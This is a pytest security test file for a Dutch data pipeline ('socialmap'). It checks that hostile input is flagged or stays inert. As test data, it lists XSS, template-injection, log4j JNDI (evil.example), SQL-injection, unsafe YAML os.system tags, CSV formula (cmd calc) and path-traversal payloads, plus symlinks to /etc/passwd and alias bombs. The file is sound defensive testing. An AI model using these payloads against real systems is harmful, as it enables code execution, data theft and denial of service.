"""Attacks by way of the data folder, up to `check`: each ends in a problem, or stays text that means nothing.

What becomes of inert text in HTML, feeds and exports is tested where those are made.
"""

import os
import signal
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import date
from pathlib import Path

import pytest

from socialmap.model.settings import Settings
from socialmap.pipeline.check import check_project, read_messages
from socialmap.pipeline.load import load_data
from socialmap.pipeline.project import Project, open_project
from socialmap.report import Report, write_text

TODAY = date(2026, 11, 22)
BASE = {
    "rollen/redactie.yml": "naam: Redactie\nsoort: redacteur\n",
    "taxonomies/kinds.yml": "- id: hulp\n  naam: Hulp\n",
    "taxonomies/themes.yml": "- id: geld\n  naam: Geld\n",
}
SERVICE = "soort: hulp\nthemas: geld\nrol: redactie\nwebsite: https://x.example\n"
ORGANIZATION = "naam: Buurthuis\nrol: redactie\n"
Files = dict[str, str | bytes]


def write(root: Path, files: Files) -> Path:
    for name, content in {**BASE, **files}.items():
        path = root / "data" / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content if isinstance(content, bytes) else content.encode())
    return root


def check(root: Path, files: Files) -> Report:
    project = open_project(write(root, files))
    assert isinstance(project, Project)
    return check_project(project, today=TODAY, messages=read_messages("nl"))


def codes(root: Path, files: Files) -> list[str]:
    return [finding.code for finding in check(root, files).findings]


@contextmanager
def limited(seconds: int) -> Iterator[None]:
    """Ends what would never end; no measure of speed."""

    def stop(_signal: int, _frame: object) -> None:
        raise TimeoutError("did not end")

    before = signal.signal(signal.SIGALRM, stop)
    signal.alarm(seconds)
    try:
        yield
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, before)


INERT = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "{{ config }}",
    "{% include '/etc/passwd' %}",
    "{{ ''.__class__.__mro__ }}",
    '--8<-- "/etc/passwd"',
    "::: socialmap.hosts.cli",
    "${jndi:ldap://evil.example/a}",
    "%0aBcc:%20x@evil.example",
    "'; DROP TABLE services; --",
    "!!python/object/apply:os.system ['id']",
    "::error file=x::y",
    "##vso[task.setvariable]x",
    "{field} {0} {0.__class__}",
    "[x](javascript:alert(1))",
]


@pytest.mark.parametrize("attack", INERT)
def test_an_attack_in_plain_text_stays_the_same_letters(tmp_path: Path, attack: str) -> None:
    quoted = "'" + attack.replace("'", "''") + "'"
    root = write(tmp_path, {"aanbod/x.yml": f"naam: {quoted}\nsamenvatting: {quoted}\n{SERVICE}"})
    data = load_data(root / "data", settings=Settings())
    service = data.catalogue.services["x"]
    assert (service.name, service.summary, data.problems) == ({"nl": attack}, {"nl": attack}, ())


@pytest.mark.parametrize("attack", INERT)
def test_an_attack_in_a_cell_is_read_as_in_a_file(tmp_path: Path, attack: str) -> None:
    cell = '"' + attack.replace('"', '""') + '"'
    root = write(tmp_path, {"organisaties.csv": f"id;naam;rol\nx;{cell};redactie\n"})
    data = load_data(root / "data", settings=Settings())
    assert (data.catalogue.organizations["x"].name, data.problems) == ({"nl": attack}, ())


@pytest.mark.parametrize("attack", INERT)
def test_an_attack_in_a_key_is_told_and_its_holes_are_not_filled(tmp_path: Path, attack: str) -> None:
    key = "'" + attack.replace("'", "''") + "'"
    report = check(tmp_path, {"organisaties/x.yml": f"{ORGANIZATION}{key}: x\n"})
    (finding,) = report.findings
    assert (finding.code, attack.partition("@")[0] in finding.what) == ("SM201", True)


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("Kom <script>alert(1)</script>", "SM601"),
        ("<img src=x onerror=alert(1)>", "SM601"),
        ("<iframe src=https://evil.example></iframe>", "SM601"),
        ("[x](javascript:alert(1))", "SM602"),
        ("[x](JaVaScRiPt:alert(1))", "SM602"),
        ("[x](java&#115;cript:alert(1))", "SM602"),
        ("[x](//evil.example)", "SM602"),
        ("[x](https://bank.example@evil.example)", "SM602"),
        ("![x](file:///etc/passwd)", "SM602"),
        ("<javascript:alert(1)>", "SM602"),
        ("[x]: data:text/html,y", "SM602"),
    ],
)
def test_markup_that_the_site_leaves_out_is_told(tmp_path: Path, text: str, found: str) -> None:
    files: Files = {"aanbod/x.yml": f"naam: X\nbeschrijving: |\n  {text}\n{SERVICE}"}
    assert codes(tmp_path, files) == [found]


@pytest.mark.parametrize(
    "address",
    [
        "javascript:alert(1)",
        "data:text/html,x",
        "//evil.example",
        "https://bank.example@evil.example",
        'https://evil.example/"onclick=x',
        "https://evil.example/<script>",
        "http://localhost/",
        "file:///etc/passwd",
        "https://evil.example\\@bank.example",
    ],
)
def test_no_address_but_a_public_one_is_accepted(tmp_path: Path, address: str) -> None:
    assert codes(tmp_path, {"organisaties/x.yml": f"{ORGANIZATION}website: '{address}'\n"}) == ["SM213"]


@pytest.mark.parametrize(
    "address", ["x%0aBcc:y@evil.example", "x@evil.example?bcc=y", "x\\n@e.example", "<x@e.example>"]
)
def test_no_mailbox_carries_more_than_a_mailbox(tmp_path: Path, address: str) -> None:
    assert codes(tmp_path, {"organisaties/x.yml": f"{ORGANIZATION}email: '{address}'\n"}) == ["SM214"]


@pytest.mark.parametrize(
    "name", ["../../evil", "/etc/passwd", "..", "a/b", "a\\b", "a.html", "A", "a b", "-a", "a--b", "é"]
)
def test_no_id_leads_out_of_its_folder(tmp_path: Path, name: str) -> None:
    assert codes(tmp_path, {"organisaties.csv": f"id;naam;rol\n{name};Buurthuis;redactie\n"}) == ["SM215"]


@pytest.mark.parametrize("name", ["index", "con", "prn", "aux", "nul", "com1", "lpt9"])
def test_no_id_takes_the_place_of_something_else(tmp_path: Path, name: str) -> None:
    assert codes(tmp_path, {f"organisaties/{name}.yml": ORGANIZATION}) == ["SM114"]


def test_no_old_id_leads_out_of_its_folder(tmp_path: Path) -> None:
    assert codes(tmp_path, {"organisaties/x.yml": f"{ORGANIZATION}oude_ids: [../../index]\n"}) == ["SM215"]


def test_an_alias_bomb_ends_at_its_first_anchor(tmp_path: Path) -> None:
    layers = "\n".join(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]" for n in range(1, 12))
    with limited(20):
        assert codes(tmp_path, {"organisaties/x.yml": f"a0: &a0 [x]\n{layers}\n"}) == ["SM103"]


@pytest.mark.parametrize("text", ["[" * 150_000, "{a: " * 50_000, "- " * 90_000, "? " * 90_000])
def test_nesting_without_end_is_told(tmp_path: Path, text: str) -> None:
    with limited(20):
        (code,) = codes(tmp_path, {"organisaties/x.yml": text})
    assert code in ("SM101", "SM106")


@pytest.mark.parametrize(
    "tag", ["!!python/object/apply:os.system [id]", "!!python/name:os.system", "!ENV HOME", "!!binary aGk="]
)
def test_no_tag_makes_anything(tmp_path: Path, tag: str) -> None:
    assert codes(tmp_path, {"organisaties/x.yml": f"naam: {tag}\nrol: redactie\n"}) == ["SM103"]


def test_no_tag_in_the_settings_makes_anything(tmp_path: Path) -> None:
    (tmp_path / "mkdocs.yml").write_text(f"site_name: X\nextra: !!python/object/apply:os.mkdir ['{tmp_path}/made']\n")
    assert codes(tmp_path, {}) == []
    assert not (tmp_path / "made").exists()


@pytest.mark.parametrize("folder", ["../elders", "/etc", "..", "data/../../elders"])
def test_the_data_folder_lies_in_the_project(tmp_path: Path, folder: str) -> None:
    (tmp_path / "elders").mkdir()
    (tmp_path / "site" / "data").mkdir(parents=True)
    found = open_project(tmp_path / "site", extra={"data": folder})
    assert isinstance(found, tuple)
    assert [problem.code for problem in found] == ["SM702"]


def test_links_to_files_and_folders_are_never_followed(tmp_path: Path) -> None:
    secret = tmp_path / "geheim"
    secret.mkdir()
    (secret / "x.yml").write_text("naam: Geheim\nrol: redactie\n")
    root = write(tmp_path / "site", {"organisaties/goed.yml": ORGANIZATION})
    data = root / "data"
    (data / "organisaties" / "link.yml").symlink_to(secret / "x.yml")
    (data / "organisaties" / "map").symlink_to(secret)
    (data / "locaties").symlink_to(secret)
    (data / "national").symlink_to(secret)
    (data / "boundaries").symlink_to("/etc")
    (data / "holidays.yml").symlink_to("/etc/passwd")
    (data / "taxonomies" / "groups.yml").symlink_to("/etc/passwd")
    report = check(root, {})
    assert {(finding.code, finding.place.file) for finding in report.findings} == {
        ("SM110", "organisaties/link.yml"),
        ("SM110", "organisaties/map"),
        ("SM110", "locaties"),
        ("SM110", "national"),
        ("SM110", "boundaries"),
        ("SM110", "holidays.yml"),
        ("SM110", "taxonomies/groups.yml"),
    }
    assert "Geheim" not in write_text(report)
    assert "root:" not in write_text(report)


def test_what_is_no_file_at_all_is_told_and_does_not_block(tmp_path: Path) -> None:
    root = write(tmp_path, {})
    os.mkfifo(root / "data" / "aanbod.csv")
    (root / "data" / "organisaties").mkdir()
    os.mkfifo(root / "data" / "organisaties" / "x.yml")
    (root / "data" / "holidays.yml").mkdir()
    (root / "data" / "postcodes.csv").mkdir()
    with limited(20):
        assert set(codes(tmp_path, {})) == {"SM110"}


@pytest.mark.parametrize("size", [10_000_000, 200_000])
def test_a_cell_or_text_without_end_is_told_and_not_shown(tmp_path: Path, size: int) -> None:
    files: Files = {
        "organisaties.csv": b"id;naam;rol\nx;" + b"x" * size + b";redactie\n",
        "locaties/x.yml": b"naam: " + b"x" * size + b"\nrol: redactie\n",
    }
    with limited(60):
        report = check(tmp_path, files)
    assert {finding.code for finding in report.findings} == {"SM105"}
    assert len(write_text(report)) < 2_000


@pytest.mark.parametrize("character", ["\0", "\x1b", "\u202e", "\u2066", "\u200b", "\u00ad", "\u2028"])
def test_hidden_characters_are_refused_in_files_cells_keys_and_vocabularies(tmp_path: Path, character: str) -> None:
    files: Files = {
        "organisaties/x.yml": f"naam: Buurt{character}huis\nrol: redactie\n",
        "organisaties/y.yml": f"na{character}am: Buurthuis\nrol: redactie\n",
        "locaties.csv": f"id;naam;rol\nz;Za{character}al;redactie\n",
        "taxonomies/themes.yml": f"- id: geld\n  naam: Ge{character}ld\n",
    }
    assert codes(tmp_path, files) == ["SM104"] * 4


@pytest.mark.parametrize("escape", [r"\0", r"\e", r"\u202e", r"\u200b", r"\x00"])
def test_hidden_characters_are_refused_as_escapes(tmp_path: Path, escape: str) -> None:
    assert codes(tmp_path, {"organisaties/x.yml": f'naam: "Buurt{escape}huis"\nrol: redactie\n'}) == ["SM104"]


@pytest.mark.parametrize("formula", ["=1+1", "=HYPERLINK(1)", "@SUM(1)", "=cmd|' /C calc'!A0"])
def test_formulas_are_refused_in_every_language_of_a_text(tmp_path: Path, formula: str) -> None:
    files: Files = {
        "organisaties/x.yml": f'naam: X\nnaam@en: "{formula}"\nrol: redactie\n',
        "locaties.csv": f'id;naam;rol\nz;"{formula}";redactie\n',
    }
    assert codes(tmp_path, files) == ["SM506", "SM506"]


def test_a_look_alike_address_warns(tmp_path: Path) -> None:
    assert codes(tmp_path, {"organisaties/x.yml": f"{ORGANIZATION}website: https://b\u0430nk.example\n"}) == ["SM507"]


@pytest.mark.parametrize(
    "text",
    [
        "a" * 20_000 + "!",
        "@" * 3_000,
        "a." * 2_000,
        "1" * 4_000,
        "<" * 4_000,
        "[" * 4_000,
        "](" * 2_000,
        "<a " * 1_300,
        "ma 9:00-" * 400,
        "https://" + "a." * 2_000,
    ],
)
def test_no_text_makes_reading_endless(tmp_path: Path, text: str) -> None:
    keys = ("naam", "beschrijving", "email", "website", "openingstijden", "kvk")
    line = "".join(f"{key}: '{text}'\n" for key in keys)
    with limited(30):
        found = codes(tmp_path, {"locaties/x.yml": line, "organisaties/x.yml": line, "aanbod/x.yml": line})
    assert found


def test_a_thousand_unknown_references_end_soon(tmp_path: Path) -> None:
    rows = "".join(
        f"dienst-{n};Dienst {n};hulp;geld;redactie;https://x{n}.example;zoek-dit-eens-{n}\n" for n in range(1000)
    )
    with limited(60):
        found = codes(tmp_path, {"aanbod.csv": f"id;naam;soort;themas;rol;website;organisatie\n{rows}"})
    assert found == ["SM301"] * 1000
